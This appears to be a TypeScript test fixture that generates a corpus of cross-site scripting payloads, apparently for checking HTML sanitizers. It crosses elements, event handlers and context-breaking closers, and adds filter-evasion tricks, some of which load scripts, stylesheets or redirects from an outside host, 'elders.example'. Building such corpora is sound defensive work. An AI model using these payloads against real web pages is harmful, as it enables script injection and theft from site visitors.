const does = 'alert(1)';

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'onfocus autofocus',
  'onmouseover',
  'ontoggle open',
  'onanimationstart',
  'onpointerenter',
  'onbegin',
  'oncut',
];
const elements = [
  'img src=x',
  'svg',
  'body',
  'details',
  'iframe src=x',
  'video src=x',
  'audio src=x',
  'object data=x',
  'input',
  'marquee',
  'math',
  'style',
];
const closers = ['', '">', "'>", '-->', '</textarea>', '</script>', '</title>', '</style>'];

function withHandler(element: string, handler: string): string {
  const [name, ...more] = handler.split(' ');
  return `<${element} ${name}=${does} ${more.join(' ')}>`;
}

const wholes = [
  `<script>${does}</script>`,
  `<script src=//elders.example/x.js></script>`,
  `<ScRiPt>${does}</sCrIpT>`,
  `<iframe srcdoc="<script>${does}</script>">`,
  `<a href="javascript:${does}">x</a>`,
  `<a href="java&#9;script:${does}">x</a>`,
  `<form action=//elders.example><button>x</button></form>`,
  `<link rel=stylesheet href=//elders.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=//elders.example">`,
  `<base href=//elders.example/>`,
  `<img src=//elders.example/x.png>`,
  `<style>@import '//elders.example/x.css';</style>`,
  `{{constructor.constructor('${does}')()}}`,
  '${' + does + '}',
  `javascript:${does}`,
  `data:text/html,<script>${does}</script>`,
  `\u202e<script>${does}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${does}>">`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${does}>#x">`,
  `<template><script>${does}</script></template>`,
];

/** Texts that a page which takes words for markup would run: every element with every handler, out of every place. */
export const scriptCorpus: readonly string[] = [
  ...elements.flatMap((element) =>
    handlers.flatMap((handler, n) =>
      [0, 3, 5]
        .map((step) => closers[(n + step) % closers.length] ?? '')
        .map((closer) => `${closer}${withHandler(element, handler)}`),
    ),
  ),
  ...closers.flatMap((closer) => wholes.map((whole) => `${closer}${whole}`)),
];
